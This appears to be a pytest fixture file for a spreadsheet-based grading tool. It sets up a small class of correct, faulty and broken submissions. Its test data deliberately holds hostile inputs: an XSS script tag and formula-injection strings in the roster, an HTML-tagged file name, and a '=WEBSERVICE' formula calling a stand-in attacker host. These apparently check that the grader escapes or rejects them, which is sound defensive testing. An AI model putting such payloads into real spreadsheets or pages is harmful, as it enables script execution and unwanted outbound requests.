"""A small class that has handed in: one all right, one with slips and mischief, one that is missing."""

from dataclasses import dataclass
from pathlib import Path

import pytest

from mlp2xlsx.classroom.exercise import Exercise
from mlp2xlsx.classroom.grading import Grades, grade
from mlp2xlsx.classroom.handouts import handout
from mlp2xlsx.classroom.marking import marking
from mlp2xlsx.classroom.originals import remade
from mlp2xlsx.classroom.records import ClassFolder, load_records
from tests.cases import few
from tests.classroom.filling import known_handout, right_answers, submitted
from tests.classroom.lessons import LESSONS

ROSTER = """\
ID number,First name,Surname,Email address,Homework 1
s001,Lei,Li,li@school.example,17
s002,<script>alert(1)</script>,"=1+1 & ""Co"" Ltd",han@school.example,3
s003,"@SUM(1)",Meimei,,
"""
REFUSED = '=WEBSERVICE("http://evil.example/")'


@pytest.fixture(scope="session", autouse=True)
def _handed_out_once():
    """What a submission is compared with is made once for all that is done to a handout."""
    made = {}

    def handed_out(exercise):
        key = known_handout(exercise)
        if key not in made:
            made[key] = remade(exercise)
        return made[key]

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(marking, "remade", handed_out)
        yield


@dataclass(frozen=True)
class Graded:
    """A class, what came in, and what became of it."""

    home: ClassFolder
    submissions: Path
    out: Path
    grades: Grades
    exercises: dict[str, Exercise]


def slips_of(asked):
    """The right answers but for some: a slip that is not gone on from, a gap, a text, formulas."""
    filled = {name: matrix.tolist() for name, matrix in right_answers(asked).items()}
    filled["output_layer_input"][0][0] += 0.5
    filled["E"] = [[-value for value in row] for row in filled["E"]]
    filled["slope_output_layer"][1][0] = None
    filled["slope_output_layer"][0][0] = "about 0.2"
    filled["d_output"][0][0] = REFUSED
    lr = asked.book().names["lr"]
    filled["next_bout"][0][0] = f"={filled['next_bout'][0][0]}+0*{lr[0]}!{lr[1].ref}"
    return filled


@pytest.fixture(scope="session", params=few("zh", of=["en", "zh"]))
def graded(request, tmp_path_factory):
    folder = tmp_path_factory.mktemp("class")
    roster = folder / "roster.csv"
    roster.write_text(ROSTER, encoding="utf-8")
    home, submissions = ClassFolder(folder / "class"), folder / "submissions"
    handout(home.path, LESSONS["and-or"].replace(language=request.param), roster=roster, seed=7)
    exercises = {one.student.id: one for one in load_records(home).exercises()}
    submissions.mkdir()
    (submissions / "first.xlsx").write_bytes(submitted(exercises["s001"], right_answers(exercises["s001"])))
    (submissions / "second.xlsx").write_bytes(submitted(exercises["s002"], slips_of(exercises["s002"])))
    (submissions / "<b>broken.xlsx").write_bytes(b"PK nothing")
    grades = grade(home.path, submissions, folder / "grades.csv")
    return Graded(home, submissions, folder / "grades.csv", grades, exercises)
